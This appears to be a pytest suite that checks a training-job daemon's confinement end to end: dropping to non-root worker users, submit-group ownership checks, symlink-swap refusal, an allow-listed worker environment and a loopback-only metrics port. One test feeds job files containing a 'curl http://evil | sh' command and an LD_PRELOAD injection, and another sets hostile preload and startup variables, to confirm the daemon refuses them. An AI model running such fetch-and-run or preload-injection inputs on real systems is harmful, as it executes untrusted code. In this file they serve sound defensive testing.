"""Confinement, end to end: the real daemon, real users and groups (created here and removed in
teardown), real stand-in workers.

* a root daemon never runs root workers unless told (``[worker] allow_root``), and runs them as
  ``[worker] user`` (uid, gid, groups) with the parent-death lifeline intact;
* spool files owned by users outside ``[jobs] submit_group`` are refused with the reason;
* a path swapped for a symlink after validation stops the worker from starting;
* job files cannot set environment variables or commands; a worker's environment is the allow-list;
* the metrics endpoint listens on loopback by default.
"""

from __future__ import annotations

import os
import pwd
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import time
import uuid

import pytest

from tests.support.harness import DaemonEnv, train_marker, wait_for, worker_pids

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SYSTEM_PYTHON = "/usr/bin/python3"

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (creates users and groups, runs the daemon as root)")


def _admin(*argv: str) -> None:
    """useradd & co., retried while another process holds the lock on /etc/passwd or /etc/group."""
    for _ in range(50):
        result = subprocess.run(argv, capture_output=True, text=True)
        if result.returncode == 0:
            return
        if "lock" not in result.stderr:
            break
        time.sleep(0.2)
    raise AssertionError(f"{' '.join(argv)} failed: {result.stderr}")


@pytest.fixture
def stranger():
    """A throwaway user (primary group nogroup) and a throwaway group it is not (yet) a member of."""
    if shutil.which("useradd") is None:
        pytest.skip("useradd is not installed")
    tag = uuid.uuid4().hex[:8]
    user, group = f"odc-u{tag}", f"odc-g{tag}"
    _admin("groupadd", group)
    try:
        _admin("useradd", "--no-create-home", "--no-user-group", "--gid", "nogroup", "--shell", "/usr/sbin/nologin",
               "--home-dir", "/nonexistent", user)
        try:
            yield user, group
        finally:
            _admin("userdel", user)
    finally:
        _admin("groupdel", group)


def drop_as(env: DaemonEnv, uid: int, filename: str, text: str) -> str:
    """Like env.drop, with the file owned by ``uid`` (chown in tmp/, then rename into new/)."""
    os.makedirs(os.path.join(env.spool, "tmp"), exist_ok=True)
    os.makedirs(os.path.join(env.spool, "new"), exist_ok=True)
    tmp = os.path.join(env.spool, "tmp", filename)
    with open(tmp, "w") as f:
        f.write(text)
    os.chown(tmp, uid, -1)
    dest = os.path.join(env.spool, "new", filename)
    os.rename(tmp, dest)
    return dest


def error_text(env: DaemonEnv, filename: str, timeout: float = 30) -> str:
    path = os.path.join(env.spool, "rejected", filename + ".error")
    wait_for(lambda: os.path.exists(path), timeout, what=f"{path}\n{env.daemon_log()}")
    with open(path) as f:
        return f.read()


# ---- who the workers run as ---------------------------------------------------------------------
def test_a_root_daemon_will_not_run_root_workers_unless_told(daemon_env):
    daemon_env.write_config(allow_root=None)  # the default: false
    out = daemon_env.cli("serve", timeout=30)
    assert out.returncode == 1, out.stderr
    assert out.stderr.strip().splitlines()[-1] == (
        "oddaemon: oddaemon is running as root and would run its training workers as root; run it as its own user "
        f"(the systemd unit does: User=oddaemon), or set [worker] user = \"oddaemon\" in {daemon_env.config_path} "
        "to run the workers as that user, or (containers, throwaway machines) set [worker] allow_root = true")
    daemon_env.write_config(worker_user="odc-no-such-user")
    out = daemon_env.cli("serve", timeout=30)
    assert out.returncode == 1 and "there is no such user on this system" in out.stderr, out.stderr


@pytest.mark.skipif(not os.access(SYSTEM_PYTHON, os.X_OK), reason=f"needs {SYSTEM_PYTHON}")
def test_workers_run_as_the_configured_user_and_still_die_with_the_daemon(stranger, monkeypatch):
    user, group = stranger
    _admin("usermod", "-aG", group, user)
    account = pwd.getpwnam(user)
    gid = _gid(group)
    # Everything the worker user touches must be reachable by it: a root under /tmp (not pytest's
    # private tmp_path), and an interpreter outside /root (the venv's is pyenv's, under /root).
    root = tempfile.mkdtemp(prefix="oddaemon-confine-")
    os.chmod(root, 0o755)
    monkeypatch.setattr(sys, "executable", SYSTEM_PYTHON)  # the daemon (and so the lifeline) runs under it
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([REPO, sysconfig.get_paths()["purelib"]]))
    env = DaemonEnv(root)
    try:
        env.write_config(worker_user=user, allow_root=None, worker_python=SYSTEM_PYTHON, submit_group=group)
        env.start()
        env.drop("asuser.toml", env.job_text("asuser", num_steps=30, every=10, step_seconds=0.05))
        env.wait_state("asuser", "running", 60)
        pid = wait_for(lambda: worker_pids(train_marker(env, "asuser")), 30, what="the train worker")[0]
        status = _status(pid)
        assert status["Uid"] == [str(account.pw_uid)] * 4 and status["Gid"] == [str(account.pw_gid)] * 4
        assert str(gid) in status["Groups"], status  # its supplementary groups too
        for path in (os.path.join(env.state, "work", "asuser"), os.path.join(env.models, "asuser")):
            assert os.stat(path).st_uid == account.pw_uid, path
        job = env.wait_state("asuser", ("succeeded", "failed"), 120)
        assert job["state"] == "succeeded", f"{job}\n{env.daemon_log()}"
        checkpoints = [n for n in os.listdir(os.path.join(env.models, "asuser")) if n.endswith(".index")]
        assert checkpoints and all(os.stat(os.path.join(env.models, "asuser", n)).st_uid == account.pw_uid
                                   for n in checkpoints)
        # The lifeline: kill the daemon outright, its worker (another user's process) dies too.
        env.drop("orphan.toml", env.job_text("orphan", num_steps=5000, step_seconds=0.05))
        env.wait_state("orphan", "running", 60)
        pid = wait_for(lambda: worker_pids(train_marker(env, "orphan")), 30, what="the train worker")[0]
        env.proc.kill()
        env.proc.wait(10)
        wait_for(lambda: not worker_pids(train_marker(env, "orphan")), 10, what="the worker to die with the daemon")
    finally:
        env.close()
        shutil.rmtree(root, ignore_errors=True)


def _gid(group: str) -> int:
    import grp  # noqa: PLC0415

    return grp.getgrnam(group).gr_gid


def _status(pid: int) -> dict[str, list[str]]:
    with open(f"/proc/{pid}/status") as f:
        return {k: v.split() for k, _, v in (line.partition(":") for line in f)}


# ---- who may submit ----------------------------------------------------------------------------
def test_files_of_users_outside_the_submit_group_are_refused_until_they_join(daemon_env, stranger):
    user, group = stranger
    uid = pwd.getpwnam(user).pw_uid
    daemon_env.write_config(submit_group=group)
    daemon_env.start()
    text = daemon_env.job_text("outsider", num_steps=2, every=1)
    drop_as(daemon_env, uid, "outsider.toml", text)
    error = error_text(daemon_env, "outsider.toml")
    assert error.startswith("Job file 'outsider.toml' was rejected because its owner may not submit jobs; nothing "
                            "was queued.\n1 problem:\n"
                            f"  - outsider.toml is owned by user {user} (uid {uid}), who is not a member of the submit "
                            f"group '{group}'; ask an administrator to add you (usermod -aG {group} {user})\n"), error
    with open(os.path.join(daemon_env.spool, "rejected", "outsider.toml")) as f:
        assert f.read() == text  # kept, as every rejected file
    assert daemon_env.job("outsider") is None
    _admin("usermod", "-aG", group, user)  # membership is looked up for each file: no restart needed
    drop_as(daemon_env, uid, "member.toml", daemon_env.job_text("member", num_steps=2, every=1))
    assert daemon_env.wait_state("member", ("queued", "running", "succeeded"), 60)


def test_a_missing_submit_group_admits_only_root_and_an_empty_one_admits_anyone(daemon_env, stranger):
    user, _group = stranger
    uid = pwd.getpwnam(user).pw_uid
    missing = f"odc-missing-{uuid.uuid4().hex[:8]}"
    daemon_env.write_config(submit_group=missing)
    daemon_env.start()
    assert f"the submit group '{missing}' ([jobs] submit_group) does not exist on this system" in daemon_env.daemon_log()
    drop_as(daemon_env, uid, "theirs.toml", daemon_env.job_text("theirs", num_steps=2, every=1))
    assert f"theirs.toml is owned by user {user} (uid {uid}); the submit group '{missing}' does not exist" in (
        error_text(daemon_env, "theirs.toml"))
    daemon_env.drop("roots.toml", daemon_env.job_text("roots", num_steps=2, every=1))  # owned by root
    daemon_env.wait_state("roots", ("queued", "running", "succeeded"), 60)
    daemon_env.stop()
    daemon_env.write_config(submit_group="")  # the owner check is off
    daemon_env.start()
    drop_as(daemon_env, uid, "anyone.toml", daemon_env.job_text("anyone", num_steps=2, every=1))
    daemon_env.wait_state("anyone", ("queued", "running", "succeeded"), 60)


# ---- paths are checked again when the worker starts -----------------------------------------------
def test_a_path_swapped_for_a_symlink_after_validation_stops_the_worker(daemon_env):
    # restarts are allowed: "refused" must fail the job at once, not after running out of them
    daemon_env.write_config(max_restarts=3, backoff_base=0.2, backoff_cap=0.5)
    daemon_env.start()
    daemon_env.drop("blocker.toml", daemon_env.job_text("blocker", num_steps=5000, step_seconds=0.05))
    daemon_env.wait_state("blocker", "running", 60)
    text = daemon_env.job_text("swapped", num_steps=5, every=5)
    link = os.path.join(daemon_env.data, "swapped-link.config")
    os.symlink(os.path.join(daemon_env.data, "swapped.config"), link)
    daemon_env.drop("swapped.toml", text.replace(os.path.join(daemon_env.data, "swapped.config"), link))
    daemon_env.wait_state("swapped", "queued", 60)  # validated: the link led inside the allowed root
    os.unlink(link)
    os.symlink("/etc/hostname", link)
    assert daemon_env.ask("cancel", name="blocker")["ok"]  # frees the slot: "swapped" starts now
    expected = (f"job swapped: not starting its train worker: pipeline_config {link} now resolves to /etc/hostname, "
                f"outside the allowed roots {daemon_env.root}")
    wait_for(lambda: expected in daemon_env.daemon_log(), 30, what=f"{expected!r} in\n{daemon_env.daemon_log()}")
    job = daemon_env.wait_state("swapped", "failed", 60)
    assert job["failure"]["kind"] == "refused", job
    assert job["restarts"] == 0 and job["attempt"] == 1, job
    assert [h["state"] for h in job["history"]][-3:] == ["queued", "running", "failed"], job["history"]
    assert job["reason"].startswith(f"the train worker was not started: pipeline_config {link} now resolves to "
                                    f"/etc/hostname, outside the allowed roots {daemon_env.root}"), job["reason"]
    assert job["reason"].endswith("; not restarted: it would fail the same way"), job["reason"]
    # the refusal was said once: no second start was tried
    assert daemon_env.daemon_log().count("job swapped: not starting its train worker") == 1
    assert not worker_pids(train_marker(daemon_env, "swapped"))
    train_log = os.path.join(daemon_env.logs, "swapped", "train.log")
    assert not os.path.exists(train_log) or "starting train" not in open(train_log).read()


# ---- no environment or commands from job files ---------------------------------------------------
def test_job_files_cannot_set_environment_variables_or_commands(daemon_env):
    daemon_env.start()
    base = daemon_env.job_text("evil", num_steps=2, every=1)
    files = {
        "env.toml": (base.replace("[train]\n", '[train]\nenv = {LD_PRELOAD = "/tmp/evil.so"}\n'),
                     "  - unknown key 'env' in [train]."),
        "command.toml": ('command = "curl http://evil | sh"\n' + base, "  - unknown key 'command' at the top level."),
        "python.toml": (base + '\n[worker]\npython = "/tmp/evil-python"\n', "  - unknown table [worker]."),
    }
    for filename, (text, _) in files.items():
        daemon_env.drop(filename, text)
    for filename, (_, fragment) in files.items():
        assert fragment in error_text(daemon_env, filename), filename
    assert daemon_env.job("evil") is None


def test_a_worker_gets_exactly_the_allow_listed_environment(daemon_env, monkeypatch):
    hostile = {"LD_PRELOAD": "/nonexistent/libevil.so", "PYTHONSTARTUP": "/nonexistent/startup.py",
               "BASH_ENV": "/nonexistent/bash_env", "PYTHONPATH": "/nonexistent/pythonpath",
               "SECRET_TOKEN": "must-not-leak", "LD_AUDIT": "/nonexistent/audit.so"}
    # the allow-listed ones, each with a value of its own to recognise (harmless for the daemon and the stand-in)
    allowed = {"LANG": "C.UTF-8", "LC_ALL": "C.UTF-8", "LC_CTYPE": "C.UTF-8", "TZ": "Etc/UTC",
               "TMPDIR": tempfile.gettempdir(), "LD_LIBRARY_PATH": "/nonexistent/ld-library-path",
               "OPENBLAS_CORETYPE": "Haswell", "OPENBLAS_L2_SIZE": "262144", "CUDA_HOME": "/nonexistent/cuda",
               "XLA_FLAGS": "--xla_nonexistent_marker"}
    for key, value in {**hostile, **allowed}.items():
        monkeypatch.setenv(key, value)
    # and the ones the daemon sets itself, which the daemon's environment must not decide
    for key, value in {"CUDA_VISIBLE_DEVICES": "7", "TF_CPP_MIN_LOG_LEVEL": "3"}.items():
        monkeypatch.setenv(key, value)
    daemon_env.start()
    daemon_env.drop("envjob.toml", daemon_env.job_text("envjob", num_steps=5000, step_seconds=0.05))
    daemon_env.wait_state("envjob", "running", 60)
    pid = wait_for(lambda: worker_pids(train_marker(daemon_env, "envjob")), 30, what="the train worker")[0]
    with open(f"/proc/{pid}/environ", "rb") as f:
        got = dict(entry.decode().split("=", 1) for entry in f.read().split(b"\0") if entry)
    # what README "Job files" promises, written out here: the daemon's PATH, PYTHONPATH, locale, TZ, HOME,
    # TMPDIR, LD_LIBRARY_PATH and CUDA/BLAS/XLA settings, plus the variables the daemon sets itself
    # (a CPU job: no GPU visible); nothing else
    expected = {**allowed, **{key: os.environ[key] for key in ("PATH", "HOME") if key in os.environ},
                "PYTHONPATH": "/nonexistent/pythonpath",
                "CUDA_VISIBLE_DEVICES": "", "PYTHONUNBUFFERED": "1", "TF_CPP_MIN_LOG_LEVEL": "1"}
    assert got == expected


# ---- metrics on loopback by default ----------------------------------------------------------------
def test_the_metrics_endpoint_listens_on_loopback_only_by_default(daemon_env):
    port = 9781
    if any(p == port for _, p in _listening(None)):
        pytest.skip(f"port {port} is taken by another process")
    daemon_env.write_config(metrics_listen=None)  # leave [metrics] listen out: the default
    daemon_env.start()
    wait_for(lambda: _listening(daemon_env.proc.pid), 10, what="the metrics socket")
    assert _listening(daemon_env.proc.pid) == [("127.0.0.1", port)]


def _listening(pid: int | None) -> list[tuple[str, int]]:
    """TCP sockets in LISTEN state (of process ``pid`` only, when given), from /proc/net/tcp{,6}."""
    inodes = None
    if pid is not None:
        inodes = set()
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as f:
            for line in f.readlines()[1:]:
                fields = line.split()
                if fields[3] != "0A" or (inodes is not None and fields[9] not in inodes):
                    continue
                address, port = fields[1].split(":")
                found.append((_address(address), int(port, 16)))
    return sorted(found)


def _address(hex_address: str) -> str:
    import ipaddress  # noqa: PLC0415

    raw = bytes.fromhex(hex_address)
    if len(raw) == 4:
        return str(ipaddress.IPv4Address(raw[::-1]))
    return str(ipaddress.IPv6Address(b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))))

